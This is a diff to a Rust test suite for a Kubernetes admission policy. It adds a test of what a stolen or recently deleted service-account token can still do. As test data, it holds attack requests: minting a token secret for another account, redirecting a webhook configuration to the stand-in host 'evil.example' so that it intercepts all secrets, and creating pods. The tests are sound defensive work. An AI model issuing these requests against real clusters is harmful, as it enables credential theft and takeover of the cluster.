@@ -1,9 +1,11 @@
 //! The admission policy: what a stolen token of a service account of `config/` cannot do.
 
+use std::sync::atomic::{AtomicUsize, Ordering::Relaxed};
+
 use k8s_openapi::{
     api::{
         admissionregistration::v1::{MutatingWebhookConfiguration, ValidatingWebhookConfiguration},
-        core::v1::{Namespace, Secret},
+        core::v1::{Namespace, Pod, Secret},
     },
     apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition,
 };
@@ -243,6 +245,65 @@ async fn a_stolen_token_yields_neither_another_account_nor_the_objects_of_others
     Ok(())
 }
 
+/// The API server accepts the token of a deleted account for some ten seconds.
+#[tokio::test(flavor = "multi_thread")]
+async fn the_policy_bounds_the_token_of_a_deleted_account_for_as_long_as_it_is_accepted() -> TestResult {
+    let plane = ControlPlane::start().await?;
+    kubectl(&plane, &["apply", "-k", "config"])?;
+    kubectl(&plane, &["apply", "-k", "config/shadow"])?;
+    let release = Release { plane: &plane, namespace: SYSTEM_NAMESPACE, suffix: "" };
+    release.wait_for_policy().await?;
+    let client = release.client("controller").await?;
+    let secrets: Api<Secret> = Api::namespaced(client.clone(), SYSTEM_NAMESPACE);
+    let token = json!({
+        "metadata": {"name": "webhook-certs", "annotations": {"kubernetes.io/service-account.name": "webhook"}},
+        "type": "kubernetes.io/service-account-token",
+    });
+    let token: Secret = serde_json::from_value(token)?;
+    let configurations: Api<ValidatingWebhookConfiguration> = Api::all(client);
+    let everything =
+        json!([{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["secrets"]}]);
+    let stolen = Patch::Json::<()>(serde_json::from_value(json!([
+        {"op": "replace", "path": "/webhooks/0/clientConfig", "value": {"url": "https://evil.example/x"}},
+        {"op": "add", "path": "/webhooks/0/rules", "value": everything},
+    ]))?);
+    let pods: Api<Pod> = Api::namespaced(release.client("controller-shadow").await?, "default");
+    let pod =
+        json!({"metadata": {"generateName": "x"}, "spec": {"containers": [{"name": "x", "image": "x"}]}});
+    let pod: Pod = serde_json::from_value(pod)?;
+    let (create, patch) = (PostParams::default(), PatchParams::default());
+    let configuration = release.configuration("config");
+    let attack = async || {
+        [
+            refusal(secrets.create(&create, &token).await),
+            refusal(configurations.patch(&configuration, &patch, &stolen).await),
+            refusal(pods.create(&create, &pod).await),
+        ]
+    };
+    let is_bounded = |refusals: &[String]| refusals.iter().all(|refusal| refusal.contains(POLICY));
+    eventually("the policies", TIMEOUT, async || {
+        let refusals = attack().await;
+        if is_bounded(&refusals) { Ok(()) } else { Err(format!("{refusals:?}")) }
+    })
+    .await;
+    kubectl(
+        &plane,
+        &["delete", "serviceaccount", "controller", "controller-shadow", "--namespace", SYSTEM_NAMESPACE],
+    )?;
+    let bounded = AtomicUsize::new(0);
+    eventually("the refusal of the tokens", TIMEOUT, async || {
+        let refusals = attack().await;
+        let is_over = |refusal: &String| refusal.contains("Unauthorized");
+        let open = refusals.iter().filter(|refusal| !refusal.contains(POLICY) && !is_over(refusal));
+        assert_eq!(open.collect::<Vec<_>>(), [""; 0]);
+        bounded.fetch_add(usize::from(is_bounded(&refusals)), Relaxed);
+        if refusals.iter().all(is_over) { Ok(()) } else { Err(format!("{refusals:?}")) }
+    })
+    .await;
+    assert!(bounded.into_inner() > 0, "the API server has accepted no token of a deleted account");
+    Ok(())
+}
+
 /// A policy sees what the mutating steps made of the object, so that their labels seem to be the account's.
 #[tokio::test(flavor = "multi_thread")]
 async fn the_secret_is_written_if_another_admission_step_labels_and_annotates_it() -> TestResult {
@@ -393,9 +454,14 @@ async fn the_policy_bounds_each_account_of_the_rendered_manifests() -> TestResul
             let name = deployment["spec"]["template"]["spec"]["serviceAccountName"].clone();
             (name, deployment["metadata"]["namespace"].clone())
         };
+        // The account of the ClusterRoleBinding that is the parameter.
         let bound = |binding: &Value| {
             let param = &binding["spec"]["paramRef"];
-            (param["name"].clone(), param["namespace"].clone())
+            assert!(param["namespace"].is_null(), "{folder}: {binding}");
+            let rights =
+                of_kind("ClusterRoleBinding").find(|object| object["metadata"]["name"] == param["name"]);
+            let subjects = rights.map_or(Value::Null, |rights| rights["subjects"].clone());
+            (subjects[0]["name"].clone(), subjects[0]["namespace"].clone())
         };
         let accounts: Vec<_> = of_kind("Deployment").map(account).collect();
         let bindings: Vec<_> = of_kind("ValidatingAdmissionPolicyBinding").collect();
@@ -414,14 +480,6 @@ async fn the_policy_bounds_each_account_of_the_rendered_manifests() -> TestResul
             assert!(
                 of_kind("ValidatingAdmissionPolicy").any(|object| object["metadata"]["name"] == *policy),
                 "{folder}: {binding}"
-            );
-        }
-        let secrets =
-            of_kind("ServiceAccount").flat_map(|account| account["secrets"].as_array().into_iter().flatten());
-        for secret in secrets.filter(|_| folder != "overlays/development") {
-            assert!(
-                of_kind("Secret").any(|object| object["metadata"]["name"] == secret["name"]),
-                "{folder}: {secret}"
             );
         }
     }
